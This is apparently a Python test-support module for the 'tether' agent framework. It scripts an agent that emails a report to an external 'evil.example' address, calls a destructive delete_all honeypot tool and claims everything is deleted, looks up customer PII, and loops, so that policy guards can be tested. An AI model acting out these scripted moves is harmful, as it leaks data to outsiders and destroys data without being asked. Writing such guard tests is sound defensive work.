"""ReAct under guards declared with the run, for `tether worker` processes (see
test_e2e_workers_react.py).

Everything a worker needs comes from importing this module: the guards (the e2e policy, the
MiniLM embedder for semantic loops, the vault key from TETHER_VAULT_KEY shared by every process)
and a scripted model that is a function of the conversation, so a run resumed by another process
is answered the same way. The model appends every request it receives to TETHER_TEST_MODEL_LOG
(one JSON line per call): what left the runtime for the model, across processes.
"""

from __future__ import annotations

import json
import os
from typing import Any

from tether.agents import react
from tether.guards import GuardConfig, Guards, default_embedder, loads_policy
from tether.models import ScriptedModel, tool_call
from tether.models.scripted import ScriptedCall

from . import agents_guarded as A
from .e2e_support import POLICY, STUCK

A.STATE["ledger"] = os.environ.get("TETHER_TEST_LEDGER")
GUARDS = Guards(GuardConfig(policy=loads_policy(POLICY, "e2e.yaml"), embedder=default_embedder()),
                tools=A.registry)


def _log(call: ScriptedCall) -> None:
    path = os.environ.get("TETHER_TEST_MODEL_LOG")
    if path:
        with open(path, "a", encoding="utf-8") as fh:
            fh.write(json.dumps([m.model_dump(mode="json") for m in call.messages]) + "\n")


def _script(call: ScriptedCall) -> Any:
    _log(call)
    goal = next(m.content or "" for m in reversed(call.messages) if m.role == "user"
                and "[scenario" in (m.content or ""))
    seen = sum(1 for m in call.messages if m.role == "tool")
    if "[scenario deny]" in goal:
        if seen == 0:
            return {"text": "I mail the report to the boss.", "finish_reason": "tool_calls",
                    "tool_calls": [tool_call("send_email", {"to": "boss@evil.example",
                                                            "body": "report"}).model_dump()]}
        if seen == 1:
            return {"text": "External mail is refused; I mail it internally.",
                    "finish_reason": "tool_calls",
                    "tool_calls": [tool_call("send_email", {"to": "ops@corp.example",
                                                            "body": "report"}).model_dump()]}
        return "The report went to ops."
    if "[scenario pii]" in goal:
        if seen == 0:
            return tool_call("crm_lookup", {"customer": "acme"})
        return "I looked the customer up."
    if "[scenario honeypot]" in goal:
        if seen == 0:
            return tool_call("delete_all", {})
        return "Everything is deleted."
    if "[scenario loop]" in goal:
        return {"text": STUCK[seen % len(STUCK)], "finish_reason": "tool_calls",
                "tool_calls": [tool_call("search", {"q": f"paris {seen}"}).model_dump()]}
    raise AssertionError(f"no scenario in {goal!r}")


MODEL = ScriptedModel(fn=_script)


async def support_agent(ctx: Any, goal: str) -> dict[str, Any]:
    """ReAct with no guards= argument: it runs under the guards the run declared."""
    return await react(ctx, goal, model=MODEL, tools=A.registry, max_steps=10)
